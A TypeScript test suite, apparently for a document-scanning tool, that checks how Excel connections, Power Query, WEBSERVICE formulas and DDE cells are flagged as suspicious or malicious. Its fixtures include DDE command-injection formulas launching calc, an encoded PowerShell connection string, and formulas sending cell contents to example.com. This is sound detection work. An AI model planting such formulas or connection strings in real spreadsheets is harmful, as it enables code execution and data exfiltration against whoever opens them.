/** Data connections, queries and formulas that reach servers. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { docx } from '#inspect/testing/samples.ts'

const inspector = useInspector()

const idsOf = (parts: Record<string, string>): string[] => inspector.inspect(docx(parts)).findings.map(({ id }) => id)
const connections = (inside: string, more: Record<string, string> = {}): string[] =>
  idsOf({ 'xl/connections.xml': `<connections>${inside}</connections>`, ...more })

const NOTICE = 'Docvet.Excel.Connection'
const REFRESH = 'Docvet.Excel.RemoteRefresh'

suite('a connection that is refreshed when the workbook is opened', () => {
  const web = (attributes: string): string =>
    `<connection id="3" ${attributes}><webPr url="https://example.com/a"/></connection>`
  test('is suspicious if it reads a web or file server', () => {
    assert.deepEqual(connections(web('refreshOnLoad="1"')), [REFRESH, NOTICE])
    const text = '<connection id="1" refreshOnLoad="true"><textPr sourceFile="\\\\server\\a.csv"/></connection>'
    assert.deepEqual(connections(text), [REFRESH, NOTICE])
  })
  test('also if a table or pivot table refreshes it', () => {
    for (const part of [
      '<queryTable name="a" refreshOnLoad="1" connectionId="3"/>',
      '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="3"/></pivotCacheDefinition>',
    ])
      assert.deepEqual(connections(web(''), { 'xl/a.xml': part }), [REFRESH, NOTICE])
  })
  test('is a notice if it reads what a state publishes', () => {
    const read = (url: string): string[] =>
      connections(`<connection id="3" refreshOnLoad="1"><webPr url="${url}"/></connection>`)
    for (const url of [
      'https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml',
      'https://www.bls.gov/cpi/a.xlsx',
      'https://data.gov.uk/a.csv',
      'https://www.insee.gouv.fr/a',
      'https://geo.admin.ch/a.json',
    ])
      assert.deepEqual(read(url), [NOTICE], url)
    for (const url of [
      'http://www.ecb.europa.eu/a.xml',
      'https://www.ecb.europa.eu.files.example/a.xml',
      'https://www.bls.gov@files.example/a',
      'https://bls-gov.example/a',
      'https://192.0.2.1/a.gov',
    ])
      assert.deepEqual(read(url), [REFRESH, NOTICE], url)
  })
  test('is a notice otherwise', () => {
    assert.deepEqual(connections(web('')), [NOTICE])
    assert.deepEqual(connections(web(''), { 'xl/a.xml': '<queryTable refreshOnLoad="1" connectionId="4"/>' }), [NOTICE])
    const database = '<dbPr connection="Provider=SQLOLEDB;Data Source=db1;Initial Catalog=a" command="SELECT 1"/>'
    assert.deepEqual(connections(`<connection id="1" refreshOnLoad="1">${database}</connection>`), [NOTICE])
  })
})

test('a connection with a command is malicious', () => {
  for (const inside of [
    '<dbPr connection="a" command="SELECT Shell(&quot;calc&quot;)"/>',
    '<dbPr connection="cmd.exe /c powershell -enc AAAA"/>',
    '<webPr url="mhtml:http://example.com/a"/>',
  ])
    assert.ok(connections(`<connection id="1">${inside}</connection>`).includes('Docvet.Excel.ProgramProvider'), inside)
})

test('a query of Power Query that reads a server on opening is suspicious', () => {
  const connection = (refresh: string): string =>
    `<connection id="1" ${refresh}><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$"/></connection>`
  const query = { 'Formulas/Section1.m': 'section A; shared Q = let S = Web.Contents("https://example.com/a") in S;' }
  assert.deepEqual(connections(connection('refreshOnLoad="1"'), query), [REFRESH, NOTICE, NOTICE])
  assert.deepEqual(connections(connection(''), query), [NOTICE, NOTICE])
  const local = { 'Formulas/Section1.m': 'section A; shared Q = File.Contents("C:\\a.csv");' }
  assert.deepEqual(connections(connection('refreshOnLoad="1"'), local), [NOTICE, NOTICE])
})

const sheet = (formula: string): string[] => idsOf({ 'xl/worksheets/sheet1.xml': `<c><f>${formula}</f></c>` })

test('a formula that sends cells to a server is suspicious', () => {
  assert.deepEqual(sheet('_xlfn.WEBSERVICE("https://example.com/?"&amp;A1)'), ['Docvet.Sheet.RemoteFormula'])
  assert.deepEqual(sheet('webservice(concatenate("http://example.com/",A1))'), ['Docvet.Sheet.RemoteFormula'])
  assert.deepEqual(sheet('WEBSERVICE("https://example.com/rates")'), [])
  assert.deepEqual(sheet('_xlfn.IMAGE("https://example.com/?"&amp;A1)'), ['Docvet.Sheet.RemoteFormula'])
  assert.deepEqual(sheet('WEB&#83;ERVICE("https://example.com/?"&amp;A1)'), ['Docvet.Sheet.RemoteFormula'])
  assert.deepEqual(sheet('WEBSERVICE("file:///C:/a.txt")'), ['Docvet.Sheet.RemoteFormula'])
  assert.deepEqual(sheet('"https://example.com/"&amp;A1'), [])
})

test('a connection file or database server by its network path counts as remote', () => {
  const refreshed = (attributes: string, inside: string): string[] =>
    connections(`<connection id="1" refreshOnLoad="1" ${attributes}>${inside}</connection>`)
  assert.ok(refreshed('odcFile="http://192.0.2.1/q.odc"', '').includes(REFRESH))
  const pipe =
    '<dbPr connection="Provider=MSDASQL;Extended Properties=&quot;DRIVER={SQL Server};SERVER=\\\\192.0.2.1\\pipe\\sql&quot;"/>'
  assert.ok(refreshed('', pipe).includes(REFRESH))
  assert.ok(!refreshed('odcFile="C:\\Users\\a\\q.odc"', '<dbPr connection="SERVER=db1"/>').includes(REFRESH))
})

test('a cell that starts a program through DDE is malicious, other bars and texts are not', () => {
  for (const formula of [
    "cmd|'/c calc'!A0",
    "1+cmd.exe|' /c calc'!A0",
    "cmd&#124;'/c calc'!A0",
    "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0",
  ])
    assert.deepEqual(sheet(formula), ['Docvet.Sheet.DdeCommand'], formula)
  for (const formula of ['"cmd|"&amp;A1', `"cmd|'/c calc'!A0"`, "'cmd|a'!A1", "Feed|'EUR'!Price"])
    assert.deepEqual(sheet(formula), [], formula)
})
